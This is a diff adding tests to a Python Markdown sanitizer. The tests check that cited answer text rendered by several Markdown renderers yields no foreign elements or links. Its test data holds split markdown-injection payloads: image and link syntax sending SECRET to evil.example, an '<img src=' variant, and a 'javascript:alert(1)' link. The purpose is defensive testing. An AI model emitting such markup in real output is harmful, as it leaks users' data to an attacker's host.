@@ -2,12 +2,15 @@
 
 from __future__ import annotations
 
+import re
 from dataclasses import replace
 from html.parser import HTMLParser
+from urllib.parse import unquote
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from answerable.core.answer import Citation
 from answerable.core.document import Chunk
@@ -75,7 +78,59 @@ BENIGN = (
 )
 
 
+JOINED = (  # what each sentence may hold alone, and all together must not
+    ("A ` b [1].", "See `[x](https://evil.example/SECRET)` [2]."),
+    ("A \\` b [1].", "See `[x](https://evil.example/SECRET)` [2]."),
+    ("A `` b [1].", "See ``[x](https://evil.example/SECRET)`` [2]."),
+    ("Please ![look [1].", "](/\\evil.example/SECRET) and go [2]."),
+    ("Please [look [1].", "](//evil.example/SECRET) and go [2]."),
+    ("Please [look [1].", "](https:evil.example/SECRET 'a') and go [2]."),
+    ("Use <img [1].", "src=https://evil.example/SECRET x [2]."),
+    ("[a][r] [1].", "\n- [r]: /\\evil.example/SECRET [2]."),
+    ("``` [1].", "\n- ```[x](https://evil.example/SECRET)``` [2]."),
+    ("~~~ [1].", "\n- `~~~ [x](https://evil.example/SECRET)` [2]."),
+    ("<!-- [1].", "--> [x](javascript:alert(1)) [2]."),
+)
 PIECES = (*"<>[]()!`\\/&#;:\"' \nahtps.=-~*", "https://evil.example", "<img ", "```")
+
+
+def lenient(preset: str) -> MarkdownIt:
+    """A renderer that passes every address on as it is written."""
+    renderer = MarkdownIt(preset, {"html": True})
+    renderer.normalizeLink = lambda url: url
+    renderer.validateLink = lambda url: True
+    return renderer
+
+
+RENDERERS = (MarkdownIt("commonmark"), lenient("commonmark"), lenient("js-default"))
+
+
+class Reached(HTMLParser):
+    """Elements that Markdown does not make, and addresses that lead elsewhere or run something."""
+
+    MADE = frozenset(
+        "p em strong code pre ul ol li a img h1 h2 h3 h4 h5 h6 blockquote hr br table thead tbody tr".split()
+    )
+
+    def __init__(self, markdown: str) -> None:
+        super().__init__()
+        self.seen: list[str] = []
+        for renderer in RENDERERS:
+            self.feed(renderer.render(markdown))
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in self.MADE | {"th", "td", "s"}:
+            self.seen.append(tag)
+        for name, value in attrs:
+            target = unquote(value or "").replace("\\", "/")
+            if name.startswith("on") or (
+                name in ("href", "src") and re.match(r"\s*(?:[a-z+.-]+:|//)", target, re.I)
+            ):
+                self.seen.append(f"{tag} {name}={target}")
+
+    def handle_comment(self, data: str) -> None:
+        self.seen.append("comment")
 
 
 class Elements(HTMLParser):
@@ -101,6 +156,21 @@ def test_nothing_foreign_survives(text: str) -> None:
         assert trace not in cleaned.lower().replace("https://docs.example.com", "")
     assert Elements(cleaned).seen == []
     assert clean(cleaned, HOSTS) == cleaned
+
+
+@pytest.mark.parametrize("text", FOREIGN)
+def test_a_renderer_makes_nothing_foreign_of_it(text: str) -> None:
+    assert Reached(clean(text)).seen == []
+
+
+def test_the_renderers_see_what_is_foreign_before_it_is_cleaned() -> None:
+    assert sum(bool(Reached(text).seen) for text in FOREIGN) >= 28  # others need a linkifier, or a drawing
+    assert sum(bool(Reached(" ".join(sentences)).seen) for sentences in JOINED) >= 6
+
+
+@pytest.mark.parametrize("sentences", JOINED)
+def test_sentences_that_are_cleaned_one_by_one_make_nothing_foreign_together(sentences: tuple[str, ...]) -> None:
+    assert Reached(" ".join(map(clean, sentences))).seen == []
 
 
 @pytest.mark.parametrize("text", BENIGN)
@@ -150,3 +220,12 @@ def test_pieces_of_markup_in_any_order_never_make_an_element_or_a_foreign_url_ou
     if "`" not in cleaned and "~~~" not in cleaned:
         assert Elements(cleaned).seen == []
         assert "https://evil" not in cleaned
+
+
+@settings(deadline=None, max_examples=200)
+@given(
+    st.lists(st.lists(st.sampled_from(PIECES)).map("".join), min_size=2, max_size=4),
+    st.sampled_from((" ", "\n- ")),
+)
+def test_no_order_of_cleaned_sentences_is_a_foreign_link_for_a_renderer(sentences: list[str], gap: str) -> None:
+    assert Reached(gap.join(clean(" ".join(one.split())) for one in sentences)).seen == []
